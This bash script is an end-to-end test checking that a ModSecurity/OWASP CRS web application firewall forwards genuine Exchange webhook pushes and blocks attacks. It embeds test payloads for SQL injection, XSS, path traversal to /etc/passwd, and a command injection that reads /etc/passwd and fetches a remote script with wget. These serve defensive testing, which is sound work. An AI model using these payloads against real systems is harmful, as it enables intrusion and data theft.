#!/usr/bin/env bash
# End-to-end WAF test: Debian's nginx + ModSecurity + OWASP CRS, configured from the
# chart's Ingress (.dev/waf.sh), in front of an upstream. Genuine SendNotification
# pushes of every event kind must reach the upstream with a 2xx; attacks must be
# answered by the WAF (403/405/413/415/400/404) and never reach the upstream.
#   WAF_UPSTREAM=host:port  test in front of a running webhook-ingress instead of the
#                           recording stand-in (.dev/waf/recording-upstream.mjs)
# Prints one line per case and the figures; exits 1 on any failure.
set -euo pipefail
# shellcheck source=.dev/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

export PATH="$("$ROOMS_ROOT/.dev/node.sh"):$PATH"
RUN="$(ensure_run_dir waf-test)"
FIXTURES="$ROOMS_ROOT/libs/ews/src/fixtures"
CORPUS="$ROOMS_ROOT/.dev/waf/corpus"
WAF_ACCESS_LOG="$ROOMS_RUN/waf/logs/access.log"
rm -f "$RUN"/*

free_port() { node -e 'const s=require("net").createServer().listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})'; }

recorder_pid=""
cleanup() {
  "$ROOMS_ROOT/.dev/waf.sh" stop || true
  if [ -n "$recorder_pid" ]; then kill "$recorder_pid" 2>/dev/null || true; fi
}
trap cleanup EXIT

"$ROOMS_ROOT/.dev/waf.sh" install
if [ -n "${WAF_UPSTREAM:-}" ]; then
  upstream="$WAF_UPSTREAM" recording=""
else
  node "$ROOMS_ROOT/.dev/waf/recording-upstream.mjs" "$RUN/recorded.jsonl" "$RUN/upstream.port" &
  recorder_pid=$!
  for _ in $(seq 1 50); do [ -s "$RUN/upstream.port" ] && break; sleep 0.1; done
  [ -s "$RUN/upstream.port" ] || die "recording upstream did not start"
  upstream="127.0.0.1:$(cat "$RUN/upstream.port")" recording=1
  : >"$RUN/recorded.jsonl"
fi
listen="127.0.0.1:$(free_port)"
"$ROOMS_ROOT/.dev/waf.sh" stop
WAF_LISTEN="$listen" WAF_UPSTREAM="$upstream" "$ROOMS_ROOT/.dev/waf.sh" start
paranoia=$(sed -n 's/.*setvar:tx.paranoia_level=\([0-9]\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
threshold=$(sed -n 's/.*setvar:tx.inbound_anomaly_score_threshold=\([0-9]*\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
base="http://$listen"

# send CASE METHOD PATH CONTENT_TYPE BODY_FILE|-  -> prints the HTTP status
send() {
  local name=$1 method=$2 path=$3 ctype=$4 body=$5 args=()
  [ "$body" = - ] || args+=(--data-binary "@$body")
  [ -z "$ctype" ] || args+=(-H "Content-Type: $ctype")
  curl -s -o /dev/null -w '%{http_code}' --path-as-is -X "$method" -H "X-Waf-Test-Case: $name" \
    -H 'User-Agent: ExchangeServicesClient/15.20.8000.000' "${args[@]}" "$base$path" || echo 000
}

# reached CASE: how many requests of that case the upstream saw (nginx log; recorder too)
reached() {
  local n
  n=$(grep -F "\"case\":\"$1\"" "$WAF_ACCESS_LOG" | grep -vcF '"upstream":""' || true)
  if [ -n "$recording" ]; then
    n=$((n + $(grep -cF "\"testCase\":\"$1\"" "$RUN/recorded.jsonl" || true)))
  fi
  echo "$n"
}

XML='text/xml; charset=utf-8'
genuine_total=0 genuine_ok=0 attack_total=0 attack_ok=0 failures=0
genuine() { # genuine CASE METHOD PATH CTYPE BODY
  local status
  genuine_total=$((genuine_total + 1))
  status=$(send "$@")
  sleep 0.05
  if [[ "$status" == 2* ]] && [ "$(reached "$1")" -ge 1 ]; then
    genuine_ok=$((genuine_ok + 1)); printf 'pass    %-44s %s -> upstream\n' "$1" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (genuine push blocked or not forwarded)\n' "$1" "$status"
  fi
}
attack() { # attack CASE EXPECTED_STATUSES METHOD PATH CTYPE BODY
  local name=$1 expected=$2 status
  shift 2
  attack_total=$((attack_total + 1))
  status=$(send "$name" "$@")
  sleep 0.05
  if [[ " $expected " == *" $status "* ]] && [ "$(reached "$name")" -eq 0 ]; then
    attack_ok=$((attack_ok + 1)); printf 'stopped %-44s %s at the WAF\n' "$name" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (expected %s, upstream saw %s)\n' "$name" "$status" "$expected" "$(reached "$name")"
  fi
}

# --- genuine pushes: the ews fixtures (captured-like) and one per event kind ----------------
for f in "$FIXTURES"/*.xml "$CORPUS"/genuine/*.xml; do
  genuine "genuine/$(basename "$f" .xml)" POST /api/webhooks/exchange "$XML" "$f"
done
genuine "genuine/legacy-endpoint-heartbeat" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/status-heartbeat.xml"
genuine "genuine/healthz" GET /healthz "" -

# --- attacks -------------------------------------------------------------------------------------
mk() { # mk NAME SED_EXPR: a genuine push with one value replaced
  sed "$2" "$CORPUS/genuine/02-created-event.xml" >"$RUN/$1.xml"
  echo "$RUN/$1.xml"
}
sub='s|<t:SubscriptionId>[^<]*</t:SubscriptionId>|<t:SubscriptionId>VALUE</t:SubscriptionId>|'
attack sqli-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-text "${sub/VALUE/1\' UNION SELECT password FROM users WHERE \'1\'=\'1}")"
attack sqli-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-attribute 's|<t:ItemId Id="[^"]*"|<t:ItemId Id="x\x27 OR 1=1; DROP TABLE reservations; --"|')"
attack xss-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-text "${sub/VALUE/\&lt;script\&gt;alert(document.cookie)\&lt;/script\&gt;}")"
attack xss-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-attribute 's|ChangeKey="DwAAA[^"]*"|ChangeKey="\&quot;\&gt;\&lt;svg onload=alert(1)\&gt;"|')"
attack command-injection-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk command-injection-in-text "${sub/VALUE/x; cat /etc/passwd; wget http://203.0.113.7/x.sh}")"
for h in xxe-external-entity billion-laughs php-processing-instruction stylesheet-processing-instruction; do
  attack "$h" "403" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/$h.xml"
done
attack xxe-in-legacy-endpoint "403" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/hostile/xxe-external-entity.xml"
attack malformed-xml "400" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/truncated.xml"
attack path-traversal-in-path "400 403 404" GET '/api/webhooks/exchange/../../../../etc/passwd' "" -
attack path-traversal-encoded "400 403 404" GET '/healthz/..%2f..%2f..%2fetc%2fpasswd' "" -
attack path-traversal-in-query "403" POST '/api/webhooks/exchange?file=../../../../etc/passwd' "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack path-traversal-healthz-query "403" GET '/healthz?x=..%2f..%2f..%2f..%2fetc%2fpasswd' "" -
attack wrong-method-get "405" GET /api/webhooks/exchange "" -
attack wrong-method-put "405" PUT /api/webhooks/exchange "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack wrong-method-delete "405" DELETE /api/webhooks/exchange "" -
attack wrong-method-post-healthz "405" POST /healthz "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
head -c 2097152 /dev/zero | tr '\0' 'A' | sed '1s|^|<?xml version="1.0"?><x>|' >"$RUN/oversize.xml"
echo '</x>' >>"$RUN/oversize.xml"
attack oversize-body-2MiB "413" POST /api/webhooks/exchange "$XML" "$RUN/oversize.xml"
printf 'a=1&b=%%27%%20OR%%201%%3D1--' >"$RUN/form.txt"
attack wrong-content-type-form "415" POST /api/webhooks/exchange "application/x-www-form-urlencoded" "$RUN/form.txt"
attack metrics-not-exposed "404" GET /metrics "" -

echo "WAF (CRS 3.3 via Debian's nginx + libmodsecurity 3, paranoia level ${paranoia:-?}, anomaly threshold ${threshold:-?}):" \
  "genuine passed $genuine_ok/$genuine_total, attacks stopped $attack_ok/$attack_total"
echo "waf-test: $((genuine_ok + attack_ok)) passed, $failures failed"
[ "$failures" -eq 0 ]
